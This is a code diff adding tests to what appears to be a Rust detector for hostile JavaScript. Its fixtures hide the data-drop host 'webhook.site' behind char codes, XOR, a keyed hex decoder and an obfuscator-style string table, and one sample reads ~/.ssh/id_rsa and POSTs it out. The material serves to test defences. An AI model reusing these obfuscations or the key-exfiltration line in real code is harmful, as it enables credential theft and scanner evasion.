@@ -71,6 +71,8 @@ fn text_is_read_as_what_it_becomes() {
         "x(['web', 'hook', '.site'].join(''))",
         "x('etis.koohbew'.split('').reverse().join(''))",
         "x(String.fromCharCode(119,101,98,104,111,111,107,46,115,105,116,101))",
+        "x([119,101,98,104,111,111,107,46,115,105,116,101].map(c => String.fromCharCode(c)).join(''))",
+        "x([118,100,99,105,110,110,106,47,114,104,117,100].map(c => c ^ 1).map(c => String.fromCharCode(c)).join(''))",
         "x(Buffer.from('d2ViaG9vay5zaXRl', 'base64').toString())",
         "x(Buffer.from('776562686f6f6b2e73697465', 'hex').toString('utf8'))",
         "const a = 'webhook', b = '.site'; x(`https://${a}${b}/y`)",
@@ -81,6 +83,27 @@ fn text_is_read_as_what_it_becomes() {
     ] {
         shows(code, DropHost);
     }
+}
+
+#[test]
+fn decoders_are_run() {
+    // A loop with a repeating key: each byte of "webhook.site" xor "ab".
+    shows(
+        "function un(h, k) { let o = ''; for (let i = 0; i < h.length; i += 2) { \
+           o += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ k.charCodeAt((i / 2) % k.length)) } return o } \
+         x(un('1607030a 0e0d0a4c 120b1507'.split(' ').join(''), 'ab'))",
+        DropHost,
+    );
+    // A table that is turned before it is used, and a decoder that replaces itself.
+    shows(
+        "function _0x1a() { const t = ['site', '3xyz', 'hook.', 'web', '10abc']; _0x1a = function () { return t }; return _0x1a() } \
+         (function (f, n) { const t = f(); while (!![]) { try { \
+           const v = parseInt(_0x2b(0x100)) / 1 + parseInt(_0x2b(0x102)) / 1; if (v === n) break; else t['push'](t['shift']()) \
+         } catch (e) { t['push'](t['shift']()) } } })(_0x1a, 0xd); \
+         function _0x2b(i, k) { const t = _0x1a(); _0x2b = function (i, k) { i = i - 0x100; let v = t[i]; return v }; return _0x2b(i, k) } \
+         const d = _0x2b; x(d(0x104) + d(0x103) + d(0x101))",
+        DropHost,
+    );
 }
 
 #[test]
@@ -105,7 +128,7 @@ fn data_is_followed_from_where_it_is_read_to_where_it_leaves() {
             SendsIdentity,
         ),
         (
-            "require('child_process').exec('cat ~/.npmrc', (e, out) => { fetch(u, { method: 'POST', body: out }) })",
+            "require('child_process').exec('cat ~/.ssh/id_rsa', (e, out) => { fetch(u, { method: 'POST', body: out }) })",
             SendsSecret,
         ),
         (
